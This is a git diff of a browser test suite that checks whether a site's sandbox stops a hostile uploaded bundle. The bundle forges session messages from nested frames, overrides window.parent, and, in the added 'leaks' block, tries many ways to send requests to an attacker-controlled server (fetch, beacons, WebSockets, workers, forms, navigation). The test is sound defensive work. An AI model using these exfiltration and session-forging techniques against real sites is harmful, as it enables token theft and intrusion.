@@ -14,28 +14,16 @@ import { configure, expect, READY, test } from "./site.ts";
 const { manifest, image } = await testBase();
 const base: Served = { manifest, read: (at, length) => image.subarray(at, at + length) };
 
-/** From where a bundle attacks: its own frame, frames in it, and another document in its place. */
-const PLACES = [
-  "frame",
-  "srcdoc",
-  "data",
-  "blob",
-  "other origin",
-  "named parent",
-  "short-lived",
-  "navigated",
-];
+/** From where a bundle attacks: its own frame, and frames in it. */
+const PLACES = ["frame", "srcdoc", "data", "blob", "named parent", "short-lived"];
 
-/** A server of the attacker's, on another site than the stage, which has been told what was tried. */
+/** A server of the attacker's, on another site than the stage. */
 class Attacker implements AsyncDisposable {
-  readonly told = new Set<string>();
+  readonly asked: string[] = [];
   readonly #server = createServer((request, response) => {
-    const { pathname, searchParams } = new URL(request.url ?? "", "http://any");
+    this.asked.push(request.url ?? "");
     response.setHeader("Content-Type", "text/html");
-    if (pathname === "/told") this.told.add(searchParams.get("what") ?? "");
-    response.end(
-      pathname === "/attack" ? attack(searchParams.get("from") ?? "", this.url) : control("other"),
-    );
+    response.end(control("other"));
   });
 
   static async start(): Promise<Attacker> {
@@ -55,7 +43,7 @@ class Attacker implements AsyncDisposable {
 }
 
 /** A document that sends AC's page a session from `place`, at once, again and again, and when it goes. */
-function attack(place: string, attacker: string): string {
+function attack(place: string): string {
   return `<script>{
     const page = top, above = parent;
     try { Object.defineProperty(window, "parent", { get: () => window }); } catch {}
@@ -64,8 +52,6 @@ function attack(place: string, attacker: string): string {
         const session = { accessToken: ["${place}", name, when].join(", ") };
         target.postMessage({ type: "setSession", session }, "*", [new MessageChannel().port1]);
       }
-      const what = encodeURIComponent(["${place}", when].join(", "));
-      if (when !== "later") fetch("${attacker}/told?what=" + what, { mode: "no-cors", keepalive: true });
     };
     post("at once");
     setInterval(post, 100, "later");
@@ -77,8 +63,8 @@ function attack(place: string, attacker: string): string {
 
 /** A bundle that attacks from all places. */
 function evil(attacker: string): string {
-  const code = (place: string) => JSON.stringify(attack(place, attacker)).replaceAll("</", "<\\/");
-  return `<!doctype html><title>evil</title><body>${attack("frame", attacker)}<script>{
+  const code = (place: string) => JSON.stringify(attack(place)).replaceAll("</", "<\\/");
+  return `<!doctype html><title>evil</title><body>${attack("frame")}<script>{
     const nest = (attributes) => {
       const frame = Object.assign(document.createElement("iframe"), attributes);
       document.body.append(frame);
@@ -87,7 +73,26 @@ function evil(attacker: string): string {
     nest({ srcdoc: ${code("srcdoc")} });
     nest({ src: "data:text/html," + encodeURIComponent(${code("data")}) });
     nest({ src: URL.createObjectURL(new Blob([${code("blob")}], { type: "text/html" })) });
-    nest({ src: "${attacker}/attack?from=other origin" });
+    const leaks = {
+      fetch: (url) => fetch(url, { mode: "no-cors", keepalive: true }).catch(() => {}),
+      beacon: (url) => navigator.sendBeacon(url, "x"),
+      socket: (url) => new WebSocket(url.replace("http", "ws")),
+      events: (url) => new EventSource(url),
+      frame: (url) => nest({ src: url }),
+      meta: (url) => nest({ srcdoc: '<meta http-equiv="refresh" content="0;url=' + url + '">' }),
+      image: (src) => document.body.append(Object.assign(new Image(), { src })),
+      script: (src) => document.body.append(Object.assign(document.createElement("script"), { src })),
+      style: (href) => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href })),
+      module: (url) => import(url).catch(() => {}),
+      worker: (url) => new Worker(url),
+      blobWorker: (url) => new Worker(URL.createObjectURL(new Blob(['fetch("' + url + '", { mode: "no-cors" })']))),
+      window: (url) => open(url),
+      top: (url) => (top.location = url),
+      form: (url) => nest({ srcdoc: '<form action="' + url + '"></form><script>document.forms[0].submit()<\\/script>' }),
+    };
+    for (const [name, leak] of Object.entries(leaks)) {
+      try { leak("${attacker}/leak/" + name); } catch {}
+    }
     nest({ srcdoc: '<iframe name="parent"></iframe>' + ${code("named parent")} });
     addEventListener("message", ({ data, source }) => {
       if (!data?.session?.accessToken.startsWith("short-lived")) return;
@@ -95,7 +100,10 @@ function evil(attacker: string): string {
     });
     nest({ srcdoc: ${code("short-lived")} });
     setTimeout(() => nest({ srcdoc: ${code("short-lived")} }), 500);
-    setTimeout(() => (location.href = "${attacker}/attack?from=navigated"), 2000);
+    setTimeout(() => {
+      top.postMessage({ session: { accessToken: "navigating, now" } }, "*");
+      location.href = "${attacker}/leak/navigation";
+    }, 2000);
   }</script>`;
 }
 
@@ -125,7 +133,8 @@ for (const driver of [chromium, firefox, webkit]) {
     test("a bundle's messages carry nothing to AC's page", async ({ site }) => {
       await using attacker = await Attacker.start();
       await visit(site.url, evil(attacker.url), async (browser) => {
-        for (const place of PLACES) await expect.poll(() => attacker.told).toContain(`${place}, at once`);
+        await expectAttacks(browser, PLACES);
+        await expectAttacks(browser, ["navigating"]);
         await expectNothing(browser);
 
         // Others are heard as before, in the midst of it.
@@ -143,7 +152,9 @@ for (const driver of [chromium, firefox, webkit]) {
           await browser.evaluate(`${controls}.every(({ ports, hasSource }) => ports === 1 && hasSource)`),
         ).toBe(true);
 
-        attacker.told.clear();
+        // Of its requests none has come, though one of the page's own, sent later, has.
+        expect(attacker.asked).toEqual(["/control"]);
+
         await browser.press("Escape"); // the piece is left, and the frame removed while it sends
         await expect.poll(() => says(browser)).toContain("Type a piece");
         await silence(browser);
@@ -151,7 +162,8 @@ for (const driver of [chromium, firefox, webkit]) {
 
         await browser.type("os notepat");
         await browser.press("Enter");
-        await expect.poll(() => attacker.told).toContain("frame, at once");
+        await browser.evaluate("(heard.length = 0)");
+        await expectAttacks(browser, ["frame"]);
         await expect.poll(() => says(browser)).toMatch(READY);
         await browser.press("s"); // the preview gives way to the build
         await expect.poll(() => says(browser), { timeout: 40_000 }).toMatch(/in your downloads/);
@@ -194,6 +206,13 @@ test("where another page could be reached through AC's, there is a still picture
   await expect(page.frameLocator("iframe").locator("#content img")).toHaveJSProperty("naturalWidth", 1280);
 });
 
+/** AC's page has been sent something from each of these places. */
+async function expectAttacks(browser: Browser, places: readonly string[]): Promise<void> {
+  const from = `[...new Set((globalThis.heard ?? []).map(({ sent }) => sent?.session?.accessToken?.split(",")[0]))]`;
+  for (const place of places)
+    await expect.poll(() => browser.evaluate(from), { timeout: 20_000 }).toContain(place);
+}
+
 /** Wait until nothing more comes from a frame that is gone: it sends ten times a second, and once more at its end. */
 async function silence(browser: Browser): Promise<void> {
   let before = -1;
@@ -208,7 +227,7 @@ async function silence(browser: Browser): Promise<void> {
 
 /** AC's page has heard the bundle, and nothing of what it said. */
 async function expectNothing(browser: Browser): Promise<void> {
-  const opaque = `heard.filter(({ origin, data }) => origin === "null" && data?.type !== "control")`;
+  const opaque = `heard.filter(({ origin, sent }) => origin === "null" && sent?.type !== "control")`;
   expect(await browser.evaluate(`${opaque}.length`)).toBeGreaterThan(0);
   const carrying = `${opaque}.filter(({ data, ports, hasSource }) => data !== null || ports > 0 || hasSource)`;
   expect(
